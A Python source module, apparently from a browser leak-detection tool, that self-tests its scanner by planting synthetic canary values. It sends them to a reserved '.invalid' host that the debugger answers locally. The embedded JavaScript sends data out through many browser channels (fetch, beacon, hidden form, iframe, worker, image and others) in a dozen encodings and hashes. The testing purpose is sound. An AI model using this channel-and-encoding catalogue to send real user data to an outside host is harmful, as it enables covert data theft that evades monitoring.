"""Leaks that every run plants beside the page, to know that it would have found them.

They leave a page of their own in a browser context of its own; the debugger answers each request
itself, before any name is looked up, so they reach nobody under any resolver rule or proxy.
"""

import asyncio
import base64
import gzip
import hashlib
import json
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from urllib.parse import quote

import msgspec

from scriptward.sources.scan import bounds
from scriptward.sources.scan.canaries import Patient
from scriptward.sources.scan.cdp import Connection, RefusedError
from scriptward.sources.scan.network import Network
from scriptward.sources.scan.targets import Target, Targets
from scriptward.vocabulary.capture import Planted, Value

_HOST = "https://self-test.scriptward.invalid"
_CORS = (
    ("access-control-allow-origin", "*"),
    ("access-control-allow-methods", "*"),
    ("access-control-allow-headers", "*"),
    ("content-type", "text/plain"),
)
ANSWER = (
    "Fetch.fulfillRequest",
    {
        "responseCode": 200,
        "responseHeaders": [{"name": name, "value": value} for name, value in _CORS],
        "body": "",
    },
)
"""What the debugger says to each request of the self-test."""

_ENCODINGS: dict[str, Callable[[str], str]] = {
    "percent": lambda text: quote(text, safe=""),
    "json": lambda text: json.dumps({"events": [{"value": text}]}),
    "html": lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    "qp": lambda text: text.replace("@", "=40").replace(".", "=2E"),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64url": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "base32": lambda text: base64.b32encode(text.encode()).decode(),
    "hex": lambda text: text.encode().hex(),
    "md5": lambda text: hashlib.md5(text.encode(), usedforsecurity=False).hexdigest(),
    "sha1": lambda text: hashlib.sha1(text.encode(), usedforsecurity=False).hexdigest(),
    "sha256": lambda text: hashlib.sha256(text.encode()).hexdigest(),
    "utf16le in hex": lambda text: text.encode("utf-16-le").hex(),
    "gzip in base64": lambda text: base64.b64encode(gzip.compress(text.encode())).decode(),
}
_BINARY = frozenset({"fetch", "xhr", "beacon"})
"""Channels that also carry bytes: they get a gzip stream as it is."""
_IN_URL = ("fetch", "image", "script", "css", "frame", "ping", "eventsource", "prefetch")
_IN_BODY = ("fetch", "xhr", "beacon", "form", "worker")

_SEND = r"""
(items => {
  const add = (tag, set) => {
    const e = Object.assign(document.createElement(tag), set);
    document.documentElement.append(e);
    return e;
  };
  const url = {
    fetch: u => fetch(u).catch(() => 0),
    image: u => { new Image().src = u; },
    script: u => add('script', {src: u}),
    css: u => add('link', {rel: 'stylesheet', href: u}),
    frame: u => add('iframe', {src: u}),
    ping: u => { const a = add('a', {href: '#', ping: u}); a.click(); },
    eventsource: u => { const s = new EventSource(u); s.onerror = () => s.close(); },
    prefetch: u => add('link', {rel: 'prefetch', href: u}),
  };
  const body = {
    fetch: (u, b) => fetch(u, {method: 'POST', body: b}).catch(() => 0),
    xhr: (u, b) => { const x = new XMLHttpRequest(); x.open('POST', u); x.send(b); },
    beacon: (u, b) => navigator.sendBeacon(u, b),
    form: (u, b) => {
      const frame = add('iframe', {name: 'f' + u.split('/')[4]});
      const form = add('form', {method: 'POST', action: u, target: frame.name});
      form.append(Object.assign(document.createElement('input'), {name: 'v', value: b}));
      form.submit();
    },
    worker: (u, b) => {
      const call = [u, {method: 'POST', body: b}].map(part => JSON.stringify(part));
      new Worker(URL.createObjectURL(new Blob([`fetch(${call}).catch(() => 0)`])));
    },
  };
  for (const [channel, u, b, packed] of items) {
    const bytes = packed ? Uint8Array.from(atob(b), c => c.charCodeAt(0)) : b;
    if (b === null) url[channel](u); else body[channel](u, bytes);
  }
})
"""


@dataclass(frozen=True, kw_only=True, slots=True)
class _Item:
    planted: Planted
    channel: str
    url: str = field(repr=False)
    body: str | None = field(repr=False)
    packed: bool = False


class _Context(msgspec.Struct, rename="camel"):
    browser_context_id: str


class _Created(msgspec.Struct, rename="camel"):
    target_id: str


async def planted(
    connection: Connection, targets: Targets, network: Network
) -> tuple[Planted, ...]:
    """Plant the leaks and wait until the debugger has seen them leave. Raises RefusedError."""
    items = tuple(_items())
    context = await connection.call(
        "Target.createBrowserContext", {"disposeOnDetach": True}, answer=_Context
    )
    targets.self_test_context = context.browser_context_id
    try:
        created = await connection.call(
            "Target.createTarget",
            {"url": "about:blank", "browserContextId": context.browser_context_id},
            answer=_Created,
        )
        target = await _attached(targets, created.target_id)
        arguments = json.dumps([[i.channel, i.url, i.body, i.packed] for i in items])
        await connection.call(
            "Runtime.evaluate",
            {"expression": f"{_SEND}({arguments})", "userGesture": True},
            session=target.session,
            answer=msgspec.Raw,
        )
        await _seen(network, {str(number) for number in range(len(items))})
    finally:
        connection.post(
            "Target.disposeBrowserContext", {"browserContextId": context.browser_context_id}
        )
    return tuple(item.planted for item in items)


def name_of(url: str, names: Iterable[Planted]) -> str:
    """Name of the planted leak a request is; empty for none."""
    number = _number(url)
    listed = tuple(names)
    return listed[int(number)].name if number and int(number) < len(listed) else ""


def _items() -> Iterable[_Item]:
    """Every channel with every encoding."""
    patient = Patient()
    number = 0
    for channels, in_url in ((_IN_URL, True), (_IN_BODY, False)):
        for channel in channels:
            packed = () if in_url or channel not in _BINARY else ("gzip",)
            for encoding in (*_ENCODINGS, *packed):
                yield _item(patient, number, channel, encoding, in_url=in_url)
                number += 1


def _item(patient: Patient, number: int, channel: str, encoding: str, *, in_url: bool) -> _Item:
    name = f"planted{number}.email"
    text = patient.value(name)
    where = "url" if in_url else "body"
    planted = Planted(
        name=f"{channel}-{where}/{encoding}", value=Value(name=name, text=text, stated=False)
    )
    url = f"{_HOST}/plant/{number}/"
    if encoding == "gzip":
        packed = base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()
        return _Item(planted=planted, channel=channel, url=url, body=packed, packed=True)
    encoded = _ENCODINGS[encoding](text)
    if in_url:
        safe = quote(encoded, safe="%")
        return _Item(planted=planted, channel=channel, url=f"{url}?v={safe}", body=None)
    return _Item(planted=planted, channel=channel, url=url, body=encoded)


async def _attached(targets: Targets, target_id: str) -> Target:
    end = asyncio.get_running_loop().time() + bounds.CALL_TIMEOUT
    while asyncio.get_running_loop().time() < end:
        for target in targets.sessions.values():
            if target.id == target_id:
                return target
        await asyncio.sleep(0.02)
    raise RefusedError("the self-test's page did not start")


async def _seen(network: Network, wanted: set[str]) -> None:
    """Wait until every planted request was seen; what doesn't come is missed, not waited for."""
    end = asyncio.get_running_loop().time() + bounds.CALL_TIMEOUT
    while asyncio.get_running_loop().time() < end:
        if wanted <= {_number(sent.url) for sent in network.self_test}:
            return
        await asyncio.sleep(0.02)


def _number(url: str) -> str:
    head = f"{_HOST}/plant/"
    return url[len(head) :].partition("/")[0] if url.startswith(head) else ""
